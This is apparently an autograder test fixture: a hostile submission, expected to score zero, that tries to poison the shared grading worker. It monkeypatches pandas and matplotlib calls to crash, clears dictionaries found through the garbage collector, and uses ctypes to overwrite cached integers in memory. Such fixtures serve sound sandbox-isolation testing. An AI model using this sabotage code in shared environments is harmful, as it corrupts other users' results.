"""Changes every module, type and cache it can reach, and hopes that the server keeps them.

The honest submission graded next in the same worker would lose its marks.
"""
# from: blank
# expect: score=0

# %% total
import builtins
import ctypes
import gc
import random
import sys

import numpy as np

random.seed(1)
np.random.seed(1)
sys.path[:] = ["."]
pd.read_csv = pd.DataFrame.groupby = plt.subplots = lambda *args, **kwargs: 1 / 0
ctypes.pythonapi.PyErr_SetInterrupt.restype = None
for thing in gc.get_objects():
    if type(thing) is dict and "station" in thing:
        thing.clear()
small = ctypes.c_long.from_address(id(2440) + 24)
small.value = 2439
ctypes.c_long.from_address(id(2) + 24).value = 3  # every 2 of this process is a 3
